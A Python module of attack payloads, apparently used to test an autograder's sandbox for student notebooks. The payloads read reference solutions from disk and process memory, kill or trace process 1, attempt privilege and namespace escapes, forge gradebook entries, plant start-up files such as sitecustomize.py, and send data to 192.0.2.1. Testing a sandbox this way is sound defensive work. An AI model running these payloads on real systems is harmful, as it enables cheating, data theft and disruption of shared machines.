"""Attacks on what is around: solutions, peers, inputs, processes, the network, files, the next student."""

from attacks import Attack, family
from attacks.tamper import PIPES

SWEEP = """
import os
places = ['/', '/tmp', '/dev/shm', '/box', '/home', '/root', '/var/tmp', '/usr/lib', '/etc', os.getcwd()]
places += ['/proc/1/root/tmp', '/proc/1/cwd', '/proc/self/root', '/proc/%d/cwd' % os.getppid()]
places += ['@ROOT@', '@ROOT@/tests', '@IN@', '@OUT@', '@HOME@', os.path.dirname(np.__file__)]
def everywhere(*names, text='@TOKEN@'):
    for place in places:
        for name in names:
            try:
                with open(os.path.join(place, name), 'w') as file: file.write(text)
            except OSError: pass
"""
# One leaves what it can in every way there is; the other, graded after it, must find nothing.
LEAVE = (
    SWEEP
    + """
everywhere('@TOKEN@')
for n in range(3):
    try:
        os.symlink('/etc', '/tmp/@TOKEN@-%d' % n)
        os.mkfifo('/dev/shm/@TOKEN@-%d' % n)
    except OSError: pass
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(0x5EED, 4096, 0o1666)
key = {'x86_64': (248, 250), 'aarch64': (217, 219)}.get(platform.machine())
if key:
    for ring in (-3, -4, -5):  # of the session, the user, the user's session
        libc.syscall(key[0], b'user', b'@TOKEN@', b'left', 4, ring)
"""
)
FIND = """
import os, ctypes, platform
places = ('/', '/tmp', '/dev/shm', '/box', os.getcwd())
found = [d for d in places if any('@TOKEN@' in n for n in os.listdir(d))]
libc = ctypes.CDLL(None, use_errno=True)
if libc.shmget(0x5EED, 4096, 0) != -1: found.append('shared memory')
key = {'x86_64': (248, 250), 'aarch64': (217, 219)}.get(platform.machine())
if key:
    for ring in (-3, -4, -5):
        if libc.syscall(key[1], 10, ring, b'user', b'@TOKEN@', 0) > 0: found.append('key ring %d' % ring)
assert not found, found
"""

ENTRIES = [
    *family(
        "reading the solution",
        {
            "looks for it": """
import os
found = []
for base, folders, names in os.walk('/'):
    folders[:] = [f for f in folders if base != '/' or f not in ('proc', 'sys', 'dev')]
    found += [os.path.join(base, n) for n in names if n.endswith('.ipynb') or n in ('judge.py', 'cases.py')]
assert not found, found
""",
            "where it lies": """
import os
paths = ('@SOLUTIONS@', '@ROOT@/solutions', '@ROOT@/src', '@ROOT@/.git', '@ROOT@/tests')
seen = [p for p in paths if os.path.exists(p)]
assert not seen, seen
""",
            "imports the package": """
import sys, glob
sys.path += glob.glob('/*/*/src') + glob.glob('/*/*/*/src') + ['@ROOT@/src']
sys.modules.pop('pendulab', None)
try: import pendulab.grading.judge
except ImportError: seen = False
else: seen = True
assert not seen
""",
            "in the memory of the process": """
import gc, re
assert not [t for t in gc.get_objects() if isinstance(t, dict) and ('expected' in t or 'reference' in t)
            and t is not globals() and '__builtins__' not in t]
hits = 0
for line in open('/proc/self/maps'):
    ends, rights = line.split()[:2]
    if 'r' not in rights or '[v' in line: continue
    low, high = (int(e, 16) for e in ends.split('-'))
    try:
        with open('/proc/self/mem', 'rb') as memory:
            memory.seek(low)
            hits += len(re.findall(rb'np[.]cov[(]x[.]T[)]', memory.read(min(high - low, 1 << 24))))
    except (OSError, OverflowError, ValueError): continue
assert not hits, hits
""",
        },
        note="",
    ),
    *family(
        "reading peers",
        {
            "the folder of submissions": """
import os
paths = ('@IN@', '@OUT@', '@HOME@/.bashrc', '@HOME@/.ssh', '/etc/passwd', '/etc/hosts')
seen = [p for p in paths if os.path.exists(p)]
assert not seen, seen
""",
            "up the tree": """
import os
seen = []
for folder in ('@IN@', '@ROOT@/tests', '@ROOT@/solutions'):
    while folder != '/':
        names = os.listdir(folder) if os.path.isdir(folder) else []
        seen += [n for n in names if n.endswith('.ipynb') or n == 'solutions']
        folder = os.path.dirname(folder)
assert not seen, seen
""",
        },
        note="",
    ),
    *family(
        "hidden inputs",
        {
            "zeros for the inputs it finds": """
import gc
inputs = [t['calls'] for t in gc.get_objects() if isinstance(t, dict) and 'calls' in t]
def area(a, b, angle): return [0.0 for calls in inputs for call in calls][:1]
""",
            "tells them in a note": """
import gc
inputs = [t['calls'] for t in gc.get_objects() if isinstance(t, dict) and t.get('name') == 'turn']
known = [[0.0, 0.0]] * len(inputs)
def area(a, b, angle): return known[0][0] if known else 0.0
""",
        },
    ),
    *family(
        "hidden inputs",
        {
            "takes the questions first": PIPES
            + """
say({'cells': 'done'})
for f in pipes:
    os.set_blocking(f, False)
    try: os.read(f, 10)
    except OSError: pass
""",
        },
        at_most=True,
    ),
    *family(
        "environment and parent",
        {
            "the environment": """
import os
allowed = {'PATH', 'HOME', 'LANG', 'MPLBACKEND', 'MPLCONFIGDIR', 'OPENBLAS_NUM_THREADS',
           'OMP_NUM_THREADS', 'PWD', 'LC_CTYPE'}
assert not set(os.environ) - allowed, set(os.environ) - allowed
assert '@SECRET@' not in open('/proc/self/environ').read() and os.getuid() != 0
""",
            "process 1": """
import os, signal
for sign in range(1, 65):
    try: os.kill(1, sign)
    except (OSError, ValueError): pass
seen = []
for name in ('environ', 'mem', 'fd', 'root', 'cwd', 'exe'):
    try:
        path = '/proc/1/' + name
        os.listdir(path) if name in ('fd', 'root', 'cwd') else open(path, 'rb').read(1)
        seen.append(name)
    except OSError: pass
assert not seen, seen
""",
            "traces its parent": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
assert libc.ptrace(16, 1, 0, 0) == -1
buffer = ctypes.create_string_buffer(8)
class Vector(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
mine, theirs = Vector(ctypes.addressof(buffer), 8), Vector(id(buffer), 8)
assert libc.process_vm_readv(1, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) == -1
""",
            "a user of its own, a mount, a root": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
done = [libc.unshare(0x10000000), libc.unshare(0x00020000), libc.setuid(0), libc.chroot(b'/tmp')]
done += [libc.mount(b'none', b'/tmp', b'tmpfs', 0, None), libc.umount2(b'/box', 2), libc.setgroups(0, None)]
assert done == [-1] * 7, done
try: seen = len([p for p in os.listdir('/proc') if p.isdigit()])
except OSError: seen = 0
assert seen <= 3
""",
        },
        note="",
    ),
    *family(
        "environment and parent",
        {
            "kills everybody": "import os\nos.kill(os.getppid(), 9)\nos.kill(1, 9)\nos.kill(-1, 9)",
            "the last of the class": """
import os, resource
for what in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
    try: os.nice(1)
    except OSError: pass
try: os.setpriority(os.PRIO_PROCESS, 1, 19)
except OSError: pass
""",
        },
    ),
    # Whoever runs as the same user may lower another's limits, and so end process 1 with all it has to say.
    *family(
        "environment and parent",
        {
            f"lowers process 1's limit of {what}": f"""
import resource
resource.prlimit(1, resource.RLIMIT_{what}, ({most}, {most}))
while {what == "CPU"}: pass
"""
            for what, most in (("CPU", 1), ("NOFILE", 3), ("AS", 1))
        },
        at_most=True,
    ),
    *family(
        "environment and parent",
        {
            "lowers it after the answers": """
import resource
def spread(x): resource.prlimit(1, resource.RLIMIT_NOFILE, (3, 3))
""",
        },
    ),
    *family(
        "writing",
        {
            "the gradebook": SWEEP
            + """
line = '"small","mallory","graded","20"\\n'
everywhere('gradebook.csv', 'gradebook.db', 'results.jsonl', 'feedback/small/mallory.html', text=line)
for place in places:
    for name in ('gradebook.csv', 'gradebook.db'):
        try: os.truncate(os.path.join(place, name), 0)
        except OSError: pass
""",
            "tests and the grader": SWEEP
            + "everywhere('conftest.py', 'runner.py', 'warden.py', 'evaluate.py', text='1/0')",
            "start-up files": SWEEP
            + """
names = ['sitecustomize.py', 'usercustomize.py', '.bashrc', '.profile', 'evil.pth', '.pth', 'numpy.py']
everywhere(*names, '.ipython/profile_default/startup/00.py', '.config/matplotlib/matplotlibrc', text='1/0')
""",
            "modules of its own": """
import os, sys
sys.path.insert(0, '/tmp')
for name in ('evaluate', 'numpy', 'json', 'pendulab'):
    open('/tmp/%s.py' % name, 'w').write('of_expression = of_figure = dumps = array = lambda *a, **k: 20.0')
for name in ('evaluate', 'pendulab'): sys.modules.pop(name, None)
""",
        },
    ),
    Attack("leaves what it can", "the next student", (LEAVE,)),
    Attack("leaves it while it answers", "the next student", (LEAVE + "def area(*a): exec(LEAVE)",)),
    Attack("the next student finds nothing", "the next student", (FIND,), note=""),
    Attack("nor does the one after", "the next student", (FIND,), note=""),
    *family(
        "network",
        {
            "loopback": """
import socket
reached = False
for port in (@PORT@, 22, 80, 8888):
    for host in ('127.0.0.1', '::1', 'localhost'):
        try: reached = socket.create_connection((host, port), timeout=1) and True
        except OSError: pass
assert not reached
""",
            "beyond": """
import socket
reached = False
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    s = socket.socket(socket.AF_INET, kind)
    s.settimeout(1)
    try:
        s.connect(('192.0.2.1', 80))
        s.send(b'marks')
        reached = True
    except OSError: pass
assert not reached
""",
            "sockets of the machine": r"""
import socket
reached = False
for name in ('/run/docker.sock', '/var/run/dbus/system_bus_socket', '\0@TOKEN@', '/tmp/.X11-unix/X0'):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(name)
        reached = True
    except OSError: pass
assert not reached
""",
        },
        note="",
    ),
]
